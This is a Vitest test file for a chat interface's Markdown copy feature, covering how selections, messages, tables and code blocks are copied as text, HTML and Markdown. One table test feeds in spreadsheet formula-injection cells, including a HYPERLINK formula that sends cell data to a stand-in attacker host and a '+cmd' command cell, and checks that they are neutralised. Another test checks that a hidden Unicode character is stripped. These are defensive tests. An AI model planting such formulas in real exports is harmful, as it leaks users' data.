import { cleanup, render, screen } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { describe, expect, test, vi } from 'vitest';
import {
  codeFlavours,
  messageFlavours,
  selectionFlavours,
  tableFlavours,
  type Flavours,
} from '../../../src/markdown/copy/flavours.ts';
import { Markdown } from '../../../src/markdown/Markdown.tsx';
import { MarkdownActionsContext, type MarkdownActions } from '../../../src/markdown/MarkdownActionsContext.ts';

/** Draws a reply below those that are there. */
function draw(text: string): Element {
  const { container } = render(<Markdown text={text} open={false} />);
  return found(container, '.md');
}

function found(root: ParentNode, selector: string): Element {
  const element = root.querySelector(selector);
  if (element === null) throw new Error(`"${selector}" is not in the page`);
  return element;
}

/** Where a text is in the page: its first letter, or behind its last one. */
function placeOf(words: string, edge: 'start' | 'end'): readonly [Text, number] {
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = texts.nextNode(); node !== null; node = texts.nextNode()) {
    const at = node instanceof Text ? node.data.indexOf(words) : -1;
    if (node instanceof Text && at !== -1) return [node, edge === 'start' ? at : at + words.length];
  }
  throw new Error(`"${words}" is not in the page`);
}

/** The range from the first letter of some words to the last one of others. */
function rangeOver(from: string, to = from): Range {
  const range = document.createRange();
  range.setStart(...placeOf(from, 'start'));
  range.setEnd(...placeOf(to, 'end'));
  return range;
}

function copied(page: Element, range: Range): Flavours | undefined {
  return selectionFlavours(range, [{ name: 'Assistant said', pages: [page] }]);
}

function plain(text: string, from: string, to = from): string | undefined {
  const page = draw(text);
  return copied(page, rangeOver(from, to))?.['text/plain'];
}

describe('a selection', () => {
  test('[M62] over several blocks is their Markdown, cut ones with whole marks', () => {
    const page = draw('# Title\n\nSome **bold words** here.\n\n- one\n- two\n\nend');
    const flavours = copied(page, rangeOver('words', 'on'));
    expect(flavours).toEqual({
      'text/plain': '**words** here.\n\n- on',
      'text/html': '<p><strong>words</strong> here.</p><ul><li>on</li></ul>',
      'text/markdown': '**words** here.\n\n- on',
    });
  });

  test('[M62] in one paragraph is its words, and its Markdown where that is asked for', () => {
    const page = draw('Some **bold** and `code` and [link](https://a.example), $x$.\n\nother');
    expect(copied(page, rangeOver('me ', '$x$'.slice(1, 2)))).toEqual({
      'text/plain': 'me bold and code and link, $x$',
      'text/html': 'me <strong>bold</strong> and <code>code</code> and <a href="https://a.example/">link</a>, $x$',
      'text/markdown': 'me **bold** and `code` and [link](https://a.example/), $x$',
    });
  });

  test('[M62] in a code block is the code, without a fence', () => {
    const page = draw('text\n\n```ts\nlet a = 1;\n  b();\nc\n```\n\nend');
    expect(copied(page, rangeOver('a = 1', 'b()'))).toEqual({
      'text/plain': 'a = 1;\n  b()',
      'text/html': '<pre><code>a = 1;\n  b()</code></pre>',
      'text/markdown': '```ts\na = 1;\n  b()\n```',
    });
    expect(copied(page, rangeOver('a = 1'))?.['text/html']).toBe('<code>a = 1</code>');
  });

  test('[M62] that reaches into code keeps its fence and its language', () => {
    expect(plain('text\n\n```ts\nlet a;\nb\n```', 'xt', 'let')).toBe('xt\n\n```ts\nlet\n```');
  });

  test('[M62] of a list keeps its numbers, and of one item only the text', () => {
    const list = '3. three\n4. four\n   - inner\n   - other\n5. five\n\nend';
    expect(plain(list, 'four', 'five')).toBe('4. four\n   - inner\n   - other\n5. five');
    cleanup();
    expect(plain(list, 'inner', 'other')).toBe('- inner\n- other');
    cleanup();
    expect(plain(list, 'fou')).toBe('fou');
  });

  test('[M62] of tasks keeps the boxes that are in it', () => {
    expect(plain('- [ ] a task\n- [x] done\n- [ ] more', 'task', 'done')).toBe('- task\n- [x] done');
  });

  test('[M62] of a table keeps its head and columns, and of one cell only the text', () => {
    const table = '| name | n | m |\n|---|---|---|\n| a | 1 | p |\n| b | 2 | q |\n| c | 3 | r |\n\nend';
    expect(plain(table, '2', 'c')).toBe('| name | n | m |\n| --- | ---: | --- |\n|  | 2 | q |\n| c |  |  |');
    cleanup();
    expect(plain(table, 'nam')).toBe('nam');
  });

  test('[M62] within a quote is copied without its marks, beyond it with them', () => {
    const quote = '> one\n>\n> two\n\nthree';
    expect(plain(quote, 'one', 'two')).toBe('one\n\ntwo');
    cleanup();
    expect(plain(quote, 'two', 'three')).toBe('> two\n\nthree');
  });

  test('[M62] that ends where the next block begins has nothing of that block', () => {
    const page = draw('one **bold**\n\n> two\n\n| a |\n|---|\n| b |');
    const range = document.createRange();
    range.setStart(found(page, 'p'), 0);
    range.setEnd(found(page, 'blockquote p'), 0);
    expect(copied(page, range)?.['text/plain']).toBe('one bold');
  });

  test('[M62] has no words of the page: languages, buttons, hosts', () => {
    const page = draw(
      '[a.example](https://b.example) ![pic](https://c.example/p.png)\n\n```js\nx\n```\n\n[^1]\n\n[^1]: note\n\nend',
    );
    const range = document.createRange();
    range.selectNodeContents(page);
    expect(copied(page, range)?.['text/plain']).toBe(
      '[a.example](https://b.example/) ![pic](https://c.example/p.png)\n\n```js\nx\n```\n\n[^1]\n\nend\n\n[^1]: note',
    );
  });

  test('[M62] takes a drawn formula as a whole, by its source', () => {
    const page = draw('So $x^2$ is.\n\nend');
    const source = found(page, '.md-math');
    const formula = document.createElement('span');
    formula.className = 'md-formula';
    const written = document.createElement('span');
    written.className = 'md-formula-source';
    written.ariaHidden = 'true';
    written.textContent = '$x^2$';
    const drawing = document.createElement('span');
    drawing.textContent = 'x2';
    formula.append(written, drawing);
    source.replaceWith(formula);
    expect(copied(page, rangeOver('So', 'x2'))?.['text/plain']).toBe('So $x^2$');
    expect(copied(page, rangeOver('So', 'end'))?.['text/html']).toBe('<p>So $x^2$ is.</p><p>end</p>');
  });

  test('[M62] of several turns says who said what, and a question is as it was written', () => {
    const first = draw('one\n\n- two');
    const second = draw('**three**');
    const question = document.createElement('div');
    question.textContent = 'Why *this*?\n- so';
    first.after(question);
    const turns = [
      { name: 'Assistant said', pages: [first] },
      { name: 'You said', pages: [question] },
      { name: 'Assistant said', pages: [second] },
    ];
    const flavours = selectionFlavours(rangeOver('two', 'thr'), turns);
    expect(flavours?.['text/plain']).toBe(
      '**Assistant said**\n\n- two\n\n**You said**\n\nWhy *this*?\n- so\n\n**Assistant said**\n\n**thr**',
    );
    expect(flavours?.['text/html']).toContain('<p>Why *this*?<br>- so</p>');
    expect(selectionFlavours(rangeOver('Why', 'this'), turns)?.['text/plain']).toBe('Why *this');
  });

  test('[M62] of nothing that was said is left to the browser', () => {
    const page = draw('one');
    const other = document.createElement('p');
    other.textContent = 'elsewhere';
    document.body.append(other);
    expect(copied(page, rangeOver('elsewhere'))).toBeUndefined();
  });
});

describe('a message', () => {
  test('[M60] [M8] is its Markdown as written, without smuggled characters, and clean HTML', () => {
    const text = '*  one\n*  two\u{E0041}\n';
    expect(messageFlavours(text, [draw(text)])).toEqual({
      'text/plain': '*  one\n*  two\n',
      'text/html': '<ul><li>one</li><li>two</li></ul>',
      'text/markdown': '*  one\n*  two\n',
    });
  });

  test('[M60] that is shown as it was written has its lines in HTML too', () => {
    expect(messageFlavours('a < b\nc\n\n**d**', [])['text/html']).toBe('<p>a &lt; b<br>c</p><p>**d**</p>');
  });
});

describe('a table', () => {
  const text = '| Name | Note |\n|---|---|\n| **a** | 5" pipe |\n| `b` | [x](https://a.example) $y$ |';

  test('[M64] is cells for a spreadsheet, HTML and Markdown', () => {
    const page = draw(text);
    expect(tableFlavours(page)).toEqual({
      'text/plain': 'Name\tNote\na\t"5"" pipe"\nb\tx $y$',
      'text/html':
        '<table><thead><tr><th>Name</th><th>Note</th></tr></thead><tbody><tr><td><strong>a</strong></td><td>5&quot; pipe</td></tr><tr><td><code>b</code></td><td><a href="https://a.example/">x</a> $y$</td></tr></tbody></table>',
      'text/markdown': '| Name | Note |\n| --- | --- |\n| **a** | 5" pipe |\n| `b` | [x](https://a.example/) $y$ |',
    });
  });

  test('[M64] gives no cell that a spreadsheet would run', () => {
    const cells = ['=HYPERLINK("https://evil.example/"&A1)', '+cmd!A0', '@SUM(A1)', '-5', '+3 %', '@name', '=A1'];
    const page = draw(`| x |\n|---|\n${cells.map((cell) => `| ${cell.replaceAll('*', '\\*')} |`).join('\n')}`);
    const flavours = tableFlavours(found(page, '.md-table-frame'));
    const rows = flavours['text/plain'].split('\n').slice(1);
    expect(rows.map((row) => row.replace(/^"/, '').charAt(0))).toEqual(["'", "'", "'", '-', '+', '@', '=']);
    expect(flavours['text/html']).toContain("<td>'@SUM(A1)</td>");
    expect(flavours['text/html']).toContain('<td>-5</td>');
    expect(flavours['text/markdown']).toContain('| @SUM(A1) |');
  });

  test('[M64] has a button for that where something can copy', async () => {
    const onCopyTable = vi.fn<MarkdownActions['onCopyTable']>();
    const { rerender } = render(<Markdown text={text} open={false} />);
    expect(screen.queryByRole('button', { name: 'Copy table' })).toBeNull();
    rerender(
      <MarkdownActionsContext value={{ onCopy: vi.fn<MarkdownActions['onCopy']>(), onCopyTable }}>
        <Markdown text={text} open={false} />
      </MarkdownActionsContext>,
    );
    await userEvent.click(screen.getByRole('button', { name: 'Copy table' }));
    const [[page]] = onCopyTable.mock.calls as [[Element]];
    expect(tableFlavours(page)['text/plain']).toMatch(/^Name\tNote\n/);
  });
});

test('[M65] a code block is its code, in a block of HTML and behind a fence', () => {
  expect(codeFlavours('a < `b`', 'ts')).toEqual({
    'text/plain': 'a < `b`',
    'text/html': '<pre><code>a &lt; `b`</code></pre>',
    'text/markdown': '```ts\na < `b`\n```',
  });
  expect(codeFlavours('```\n', '')['text/markdown']).toBe('````\n```\n\n````');
});
